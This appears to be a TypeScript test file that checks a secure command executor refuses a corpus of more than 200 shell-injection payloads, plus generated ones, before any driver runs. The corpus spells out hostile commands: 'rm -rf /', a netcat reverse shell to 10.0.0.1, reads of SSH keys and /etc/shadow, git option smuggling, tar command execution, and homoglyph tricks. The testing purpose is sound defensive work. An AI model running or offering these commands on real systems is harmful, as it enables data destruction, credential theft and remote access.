import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Role } from '@aegis/contracts';
import { testConfig } from '@aegis/testing';
import fc from 'fast-check';
import { DirectDriver } from './drivers/direct.driver';
import type { DriverAvailability, ExecutionRequest, ExecutionResult, SandboxDriver, SandboxRun } from './executor.types';
import { SecureExecutor } from './secure-executor';

/** A real driver that counts what reaches it: a refused payload must not even probe it. */
class CountingDriver implements SandboxDriver {
  readonly name = 'direct' as const;
  runs = 0;
  probes = 0;
  constructor(private readonly inner: SandboxDriver) {}
  availability(): Promise<DriverAvailability> {
    this.probes += 1;
    return this.inner.availability();
  }
  run(run: SandboxRun): Promise<ExecutionResult> {
    this.runs += 1;
    return this.inner.run(run);
  }
  close(): Promise<void> {
    return this.inner.close();
  }
}

type Payload = [role: Role, request: Pick<ExecutionRequest, 'argv' | 'command'>];
const V = Role.Viewer;
const O = Role.Operator;
const A = Role.Admin;
const cmd = (role: Role, command: string): Payload => [role, { command }];
const argv = (role: Role, ...args: string[]): Payload => [role, { argv: args }];

/** Hand-written payloads: each must be refused by SecureExecutor before any driver is touched. */
const CORPUS: Payload[] = [
  // shell operators and chaining
  cmd(V, 'ls; rm -rf /'),
  cmd(V, 'ls;rm -rf /'),
  cmd(V, 'ls ;'),
  cmd(V, 'echo hi && reboot'),
  cmd(V, 'false || reboot'),
  cmd(V, 'ls | sh'),
  cmd(V, 'lscpu | head'),
  cmd(V, 'ls |& cat'),
  cmd(V, 'ls &'),
  cmd(V, 'ls & rm -rf /'),
  cmd(V, '(ls)'),
  cmd(V, '{ ls; }'),
  cmd(V, 'ls > /workspace/out'),
  cmd(V, 'ls >> out'),
  cmd(V, 'ls 2>&1'),
  cmd(V, 'cat < /etc/passwd'),
  cmd(V, 'cat <<EOF'),
  cmd(V, 'cat <(ls)'),
  cmd(V, 'ls >(cat)'),
  cmd(V, 'ls &> out'),
  cmd(V, 'ls\nreboot'),
  cmd(V, 'ls\r\nreboot'),
  cmd(V, 'ls\rreboot'),
  cmd(V, 'ls\0-la'),
  cmd(V, 'ls;;'),
  cmd(V, 'ls;&'),
  // substitution and expansion
  cmd(V, 'echo $(id)'),
  cmd(V, 'echo `id`'),
  cmd(V, 'echo "$(id)"'),
  cmd(V, "echo '`id`'"),
  cmd(V, 'echo ${PATH}'),
  cmd(V, 'echo $HOME'),
  cmd(V, 'cat $HOME/.ssh/id_rsa'),
  cmd(V, 'echo "$JWT_SECRET"'),
  cmd(V, 'echo $$'),
  cmd(V, 'echo $1'),
  cmd(V, "echo $'a\\x3bb'"),
  cmd(V, "echo $'\\n'reboot"),
  cmd(V, "echo $'\\x00'"),
  cmd(V, 'echo $((1+1))'),
  cmd(V, 'ls *'),
  cmd(V, 'cat /etc/pass?'),
  cmd(V, 'cat *.env'),
  cmd(V, 'ls # rm -rf /'),
  cmd(V, 'echo "unterminated'),
  cmd(V, "echo 'unterminated"),
  cmd(V, 'echo trailing\\'),
  // unicode look-alikes of shell syntax
  cmd(V, 'ls；rm -rf /'),
  cmd(V, 'ls ； rm'),
  cmd(V, 'echo ＄(id)'),
  cmd(V, 'echo ＄HOME'),
  cmd(V, 'ls ｜ sh'),
  cmd(V, 'ls ＆＆ reboot'),
  cmd(V, 'echo ﹩(id)'),
  cmd(V, 'ls ﹔ rm'),
  cmd(V, 'ls \u037e rm'),
  cmd(V, 'cat ＜ /etc/passwd'),
  cmd(V, 'echo ＞ out'),
  cmd(V, 'echo ｀id｀'),
  cmd(V, 'echo （id）'),
  cmd(V, 'ls ＊'),
  cmd(V, 'ls ＃ x'),
  cmd(V, 'echo ＂x＂'),
  cmd(V, 'echo ＇x＇'),
  cmd(V, 'echo ＼n'),
  cmd(V, 'ls ﹠ rm'),
  cmd(V, 'ls ﹤ x'),
  cmd(V, 'ls ﹥ x'),
  // invisible, separator and control characters
  cmd(V, 'ls\u2028rm'),
  cmd(V, 'ls\u2029rm'),
  cmd(V, 'ls\u0085rm'),
  cmd(V, 'ls\u200b-la'),
  cmd(V, 'ls\u200d-la'),
  cmd(V, 'ls\u202e-la'),
  cmd(V, 'ls\u2066-la'),
  cmd(V, 'ls\ufeff'),
  cmd(V, 'ls\u00a0-la'),
  cmd(V, 'ls\u3000-la'),
  cmd(V, 'ls\u2003-la'),
  cmd(V, 'ls\t-la'),
  cmd(V, 'ls\t;rm'),
  cmd(V, 'ls\x1b[2J'),
  cmd(V, 'ls\x07'),
  cmd(V, 'ls\x7f'),
  cmd(V, 'ls\x0b-la'),
  cmd(V, 'ls\x0c-la'),
  // homoglyph program names
  cmd(V, 'ｌｓ -la'),
  cmd(V, 'lѕ -la'),
  cmd(V, 'саt README.md'),
  cmd(V, 'ⅼs'),
  cmd(V, 'gіt status'),
  cmd(V, 'ecհo hi'),
  cmd(V, 'l\u0301s'),
  cmd(V, 'ｃａｔ x'),
  cmd(V, 'ｇｉｔ status'),
  cmd(V, 'Ls'),
  cmd(V, 'LS'),
  // argv smuggling into git
  cmd(V, 'git -c core.sshCommand=touch status'),
  cmd(V, 'git -c core.fsmonitor=touch status'),
  cmd(V, 'git -c alias.status=!sh status'),
  cmd(V, 'git --git-dir=/tmp/x status'),
  cmd(V, 'git --work-tree=/ status'),
  cmd(V, 'git -C / status'),
  cmd(V, 'git --exec-path=/tmp status'),
  cmd(V, 'git --config-env=core.pager=X log'),
  cmd(V, 'git --no-pager log'),
  cmd(O, 'git fetch --upload-pack=touch origin'),
  cmd(O, 'git pull --upload-pack=/tmp/x origin'),
  cmd(O, 'git pull --upload-p=x origin'),
  cmd(O, 'git fetch ext::sh'),
  cmd(O, 'git pull fd::17'),
  cmd(V, 'git log --output=/workspace/x'),
  cmd(V, 'git log --outp=x'),
  cmd(V, 'git diff --ext-diff'),
  cmd(V, 'git show --output=x'),
  cmd(A, 'git clone -u touch repo'),
  cmd(A, 'git clone --upload-pack=touch repo'),
  cmd(A, 'git clone -c core.sshCommand=x repo'),
  cmd(A, 'git clone --config core.sshCommand=x repo'),
  cmd(A, 'git clone --template=/tmp repo'),
  cmd(A, 'git rebase --exec touch'),
  cmd(A, 'git init --separate-git-dir=x'),
  cmd(O, 'git push origin main'),
  cmd(V, 'git pull'),
  cmd(V, 'git commit -m x'),
  cmd(A, 'git config core.pager x'),
  cmd(A, 'git submodule foreach x'),
  cmd(A, 'git daemon'),
  cmd(A, 'git archive --remote=x HEAD'),
  cmd(A, 'git instaweb'),
  cmd(V, 'git'),
  // programs given as paths
  cmd(V, '/bin/ls'),
  cmd(V, './ls'),
  cmd(V, '../bin/ls'),
  cmd(V, '/usr/bin/git status'),
  cmd(V, 'bin/sh'),
  cmd(V, '~/ls'),
  cmd(V, '/tmp/evil'),
  // programs that are not on any allowlist
  cmd(A, 'sh -c id'),
  cmd(A, 'bash'),
  cmd(A, 'dash -c id'),
  cmd(V, 'python3 -c print'),
  cmd(A, 'python -c print'),
  cmd(A, 'perl -e print'),
  cmd(A, 'nc -e sh 10.0.0.1 4444'),
  cmd(A, 'curl http://10.0.0.1'),
  cmd(A, 'wget http://10.0.0.1'),
  cmd(A, 'sudo ls'),
  cmd(A, 'su'),
  cmd(A, 'env ls'),
  cmd(A, 'xargs rm'),
  cmd(A, 'awk BEGIN{system(1)}'),
  cmd(A, 'sed -i s/a/b/ x'),
  cmd(A, 'busybox sh'),
  cmd(A, 'nohup ls'),
  cmd(A, 'timeout 1 ls'),
  cmd(A, 'nice ls'),
  cmd(A, 'chroot / ls'),
  cmd(A, 'nsenter -t 1 ls'),
  cmd(A, 'docker ps'),
  cmd(A, 'systemctl restart ssh'),
  cmd(A, 'apt-get install nmap'),
  cmd(A, 'exec ls'),
  cmd(A, 'eval ls'),
  cmd(A, 'source x'),
  cmd(A, '. x'),
  cmd(A, 'kill -9 1'),
  cmd(A, 'chown root x'),
  cmd(A, 'dd if=/dev/zero of=x'),
  cmd(A, 'vi x'),
  cmd(A, 'ssh host'),
  // environment-style assignments
  cmd(V, 'PATH=/x ls'),
  cmd(V, 'LD_PRELOAD=/tmp/x.so ls'),
  cmd(V, 'HOME=/ cat x'),
  cmd(V, 'GIT_SSH_COMMAND=x git status'),
  cmd(V, 'IFS=, ls'),
  cmd(V, 'A=1'),
  // path traversal in arguments
  cmd(V, 'ls -la /etc/../..'),
  cmd(V, 'cat ../../etc/passwd'),
  cmd(V, 'cat /etc/passwd'),
  cmd(V, 'cat /etc/shadow'),
  cmd(V, 'ls /'),
  cmd(V, 'ls /root'),
  cmd(V, 'find / -name id_rsa'),
  cmd(V, 'head ../secret'),
  cmd(V, 'grep -r password ..'),
  cmd(V, 'du -sh /home'),
  cmd(V, 'stat /var/run/docker.sock'),
  cmd(V, 'cat /proc/../etc/passwd'),
  cmd(V, 'cat /workspace/../etc/passwd'),
  cmd(V, 'ls --directory=../x'),
  cmd(V, 'git diff ../x'),
  cmd(V, 'tail -f /var/log/syslog'),
  cmd(V, 'cat repo/../../x'),
  cmd(V, 'ls ..'),
  // paths by another name (issue 10 item 4): /proc links, attached values, lists
  cmd(V, 'cat /proc/self/root/etc/passwd'),
  cmd(V, 'ls /proc/1/cwd'),
  cmd(V, 'cat /proc/self/cwd/x'),
  cmd(V, 'cat /proc/self/fd/3'),
  cmd(V, 'cat /proc/thread-self/root/etc/passwd'),
  cmd(V, 'cat /proc/1/environ'),
  cmd(O, 'tar -C/etc -cf /tmp/x.tar passwd'),
  cmd(O, 'tar -C.. -cf /tmp/x.tar workspace'),
  cmd(O, 'tar -cf../x.tar README.md'),
  cmd(O, 'tar -cvf/etc/x.tar README.md'),
  cmd(V, 'file -m a:/etc/magic a'),
  cmd(V, 'file -m/etc/magic a'),
  cmd(O, 'git pull file:///etc/repo'),
  cmd(V, 'ls //etc'),
  // writes into .git (issue 10 item 1) and what no argument shows
  cmd(O, 'cp h.sh .git/hooks/pre-commit'),
  cmd(O, 'mv h.sh repo/.git/hooks/pre-commit'),
  cmd(O, 'touch .git/hooks/pre-commit'),
  cmd(O, 'mkdir -p .git/hooks'),
  cmd(O, 'cp -t.git/hooks h.sh'),
  cmd(O, 'cp --target-directory=.git/hooks h.sh'),
  cmd(O, 'mv .git old-git'),
  cmd(O, 'touch x/.Git/config'),
  cmd(O, 'python3 .git/hooks/pre-commit'),
  cmd(A, 'ln -s h.sh .git/hooks/pre-commit'),
  cmd(A, 'rm -rf .git'),
  cmd(O, 'tar -xf in.tar'),
  cmd(O, 'tar xzf in.tgz'),
  cmd(O, 'tar --extract --file=in.tar'),
  cmd(O, 'tar --get -f in.tar'),
  cmd(O, 'tar -cf host:x.tar README.md'),
  cmd(V, 'date 010100002000'),
  cmd(V, 'date -s2000-01-01'),
  cmd(V, 'date -us 2000-01-01'),
  // dangerous options of allowed programs
  cmd(V, 'find . -exec rm {} +'),
  cmd(V, 'find . -execdir sh {} +'),
  cmd(V, 'find . -delete'),
  cmd(V, 'find . -fprint out'),
  cmd(V, 'find . -okdir rm {} +'),
  cmd(O, 'tar -cf x.tar --to-command=sh .'),
  cmd(O, 'tar --use-compress-program=sh -cf x .'),
  cmd(O, 'tar -I sh -cf x .'),
  cmd(O, 'tar xIf sh x.tar'),
  cmd(O, 'tar --checkpoint-action=exec=sh -cf x .'),
  cmd(O, 'tar --to-com=sh -xf x.tar'),
  cmd(V, 'date -s 2000-01-01'),
  cmd(V, 'date --set=2000-01-01'),
  cmd(V, 'whoami --help'),
  // role escalation
  cmd(V, 'rm -rf x'),
  cmd(V, 'touch x'),
  cmd(V, 'mkdir x'),
  cmd(V, 'cp a b'),
  cmd(V, 'mv a b'),
  cmd(V, 'tar -cf a b'),
  cmd(O, 'rm -rf x'),
  cmd(O, 'chmod 777 x'),
  cmd(O, 'ln -s /etc x'),
  // argv given directly
  argv(V),
  argv(V, 'ls', 'a;b'),
  argv(V, 'ls', '$(id)'),
  argv(V, 'echo', '`id`'),
  argv(V, 'echo', 'a && b'),
  argv(V, 'echo', 'a || b'),
  argv(V, 'echo', 'a | b'),
  argv(V, 'echo', '>out'),
  argv(V, 'echo', '<in'),
  argv(V, 'ls', 'a\nb'),
  argv(V, 'ls', 'a\0b'),
  argv(V, 'ls', 'a\tb'),
  argv(V, 'ls', 'a\rb'),
  argv(V, 'ls', '＄(id)'),
  argv(V, 'ls', 'a；b'),
  argv(V, 'git', '-c', 'core.sshCommand=x', 'status'),
  argv(O, 'git', 'fetch', '--upload-pack', 'touch'),
  argv(V, 'PATH=/x', 'ls'),
  argv(V, '/bin/ls'),
  argv(V, 'ls', '../..'),
  argv(V, 'cat', '/etc/shadow'),
  argv(V, 'ls; rm'),
  argv(V, 'ls -la'),
  argv(V, ''),
  argv(V, 'ｌｓ'),
  argv(V, 'sh', '-c', 'id'),
];

describe('injection corpus', () => {
  const workspace = mkdtempSync(join(tmpdir(), 'aegis-corpus-'));
  const config = testConfig({ EXECUTE_MODE: 'direct', NODE_ENV: 'test', WORKSPACE_DIR: workspace });
  const driver = new CountingDriver(new DirectDriver());
  const executor = new SecureExecutor(config, { drivers: { direct: driver } });

  afterAll(async () => {
    await executor.close();
    rmSync(workspace, { recursive: true, force: true });
  });

  it(`holds at least 200 hand-written payloads`, () => {
    expect(CORPUS.length).toBeGreaterThanOrEqual(200);
  });

  it.each(CORPUS.map((payload, index) => [index, JSON.stringify(payload[1].command ?? payload[1].argv), payload] as const))(
    '#%i refuses %s with nothing executed',
    async (_index, _text, [role, request]) => {
      await expect(executor.execute({ ...request, role })).rejects.toMatchObject({
        code: expect.stringMatching(/^(COMMAND_REFUSED|PROGRAM_NOT_ALLOWED|PATH_OUTSIDE_WORKSPACE)$/) as unknown,
      });
      expect(driver.runs).toBe(0);
      expect(driver.probes).toBe(0);
    },
  );

  describe('generated payloads', () => {
    const roles = fc.constantFrom(Role.Viewer, Role.Operator, Role.Admin);
    const safeCommands = fc.constantFrom('ls -la', 'cat README.md', 'git status', 'echo hi', 'grep -rn x src', 'find . -type f', 'du -sh repo');
    /** Refused anywhere, argv elements included. */
    const anywhere = [';', '&&', '||', '|', '`', '$(', '>', '<', '>>', '\n', '\r', '\0', '；', '＄(', '｜', '＆', '＞', '＜', '｀', '﹔', '\u037e', '\u2028', '\u200b', '\u202e', '\t'];
    /** Shell syntax that only means something in a command string (in argv it is a literal character); `#` only starts a comment at a word's start. */
    const commandOnly = ['&', '*', '?', ' #', '$X', '${X}', "$'x'"];
    const operators = fc.constantFrom(...anywhere, ...commandOnly);
    const argvOperators = fc.constantFrom(...anywhere);
    const suffixes = fc.string({ maxLength: 20 });
    const assertRefused = async (request: ExecutionRequest) => {
      await expect(executor.execute(request)).rejects.toMatchObject({ code: expect.any(String) as unknown });
    };

    it('refuses a safe command with any shell operator or look-alike spliced in', async () => {
      await fc.assert(
        fc.asyncProperty(roles, safeCommands, operators, suffixes, fc.nat(), async (role, command, operator, suffix, cut) => {
          const at = cut % (command.length + 1);
          await assertRefused({ role, command: `${command.slice(0, at)}${operator}${suffix}${command.slice(at)}` });
        }),
        { numRuns: 80 },
      );
    });

    it('refuses argv with a smuggled element anywhere', async () => {
      await fc.assert(
        fc.asyncProperty(roles, argvOperators, suffixes, fc.nat(3), async (role, operator, suffix, position) => {
          const argv = ['grep', '-n', 'x', 'file.txt'];
          const element = `${suffix}${operator}${suffix}`;
          await assertRefused({ role, argv: position === 0 ? [element, ...argv.slice(1)] : [...argv.slice(0, position), element, ...argv.slice(position)] });
        }),
        { numRuns: 60 },
      );
    });

    it('refuses program names with any non-ASCII character', async () => {
      const nonAscii = fc.string({ unit: 'binary', minLength: 1, maxLength: 3 }).filter((text) => [...text].some((character) => character.charCodeAt(0) > 0x7f));
      await fc.assert(
        fc.asyncProperty(roles, fc.constantFrom('ls', 'cat', 'git', 'rm', 'echo'), nonAscii, fc.nat(), async (role, program, inserted, cut) => {
          const at = cut % (program.length + 1);
          await assertRefused({ role, argv: [`${program.slice(0, at)}${inserted}${program.slice(at)}`, 'status'] });
        }),
        { numRuns: 60 },
      );
    });

    it('refuses environment assignments before a program', async () => {
      const name = fc.stringMatching(/^[A-Za-z_][A-Za-z0-9_]{0,12}$/);
      const value = fc.stringMatching(/^[a-zA-Z0-9/._-]{0,16}$/);
      await fc.assert(
        fc.asyncProperty(roles, name, value, safeCommands, async (role, variable, content, command) => {
          await assertRefused({ role, command: `${variable}=${content} ${command}` });
        }),
        { numRuns: 40 },
      );
    });

    it('refuses any argument that climbs out with ..', async () => {
      const segment = fc.stringMatching(/^[a-z0-9._-]{1,8}$/).filter((text) => text !== '..' && text !== '.');
      await fc.assert(
        fc.asyncProperty(roles, fc.array(segment, { maxLength: 3 }), fc.array(segment, { maxLength: 3 }), async (role, before, after) => {
          await assertRefused({ role, argv: ['cat', [...before, '..', ...after].join('/')] });
        }),
        { numRuns: 40 },
      );
    });

    afterAll(() => {
      expect(driver.runs).toBe(0);
      expect(driver.probes).toBe(0);
    });
  });

  it('does reach the driver with an allowed command (the counter works)', async () => {
    const result = await executor.execute({ role: Role.Viewer, argv: ['echo', 'hi'] });
    expect(result).toMatchObject({ exitCode: 0, stdout: 'hi\n', driver: 'direct' });
    expect(driver.runs).toBe(1);
  });
});
